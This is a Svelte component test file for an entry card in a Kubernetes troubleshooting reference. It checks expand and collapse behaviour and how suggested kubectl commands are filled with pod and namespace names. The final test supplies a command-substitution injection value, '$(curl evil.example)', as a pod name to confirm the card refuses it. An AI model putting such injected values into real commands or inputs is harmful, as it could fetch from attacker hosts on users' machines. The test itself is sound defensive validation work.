import { fireEvent, render, screen } from '@testing-library/svelte';
import { describe, expect, it } from 'vitest';
import EntryCard from '../../src/ui/reference/EntryCard.svelte';
import { catalog } from './session-harness';

// a real entry whose next checks name the pod and its namespace
const entry = catalog.entries.find((e) =>
  e.nextChecks.some((c) => c.command === 'kubectl describe pod -n {namespace} {pod}'),
)!;

describe('EntryCard', () => {
  it('is one compact row until opened in place', async () => {
    render(EntryCard, { props: { entry, selected: false } });
    const toggle = screen.getByTestId('ref-toggle');
    expect(toggle.getAttribute('aria-expanded')).toBe('false');
    expect(document.body.textContent).not.toContain('Why:');
    await fireEvent.click(toggle);
    expect(toggle.getAttribute('aria-expanded')).toBe('true');
    expect(document.body.textContent).toContain('Why:');
    expect(document.getElementById(`ref-body-${entry.id}`)).not.toBeNull();
  });

  it('opens a deep-linked entry without a toggle', () => {
    render(EntryCard, { props: { entry, selected: true } });
    expect(screen.queryByTestId('ref-toggle')).toBeNull();
    expect(document.body.textContent).toContain('Fix:');
  });

  it("fills the next checks from the report's names, and says so", () => {
    render(EntryCard, { props: { entry, selected: true, ctx: { pod: 'web-1', namespace: 'shop' } } });
    expect(screen.getByTestId('filled-note')).toBeTruthy();
    expect(document.body.textContent).toContain('kubectl describe pod -n shop web-1');
  });

  it('keeps placeholders without a report, and for a pasted value that is no valid name', () => {
    render(EntryCard, { props: { entry, selected: true, ctx: { pod: '$(curl evil.example)', namespace: 'shop' } } });
    expect(document.body.textContent).toContain('kubectl describe pod -n shop <pod>');
    expect(document.body.textContent).not.toContain('curl evil');
  });
});
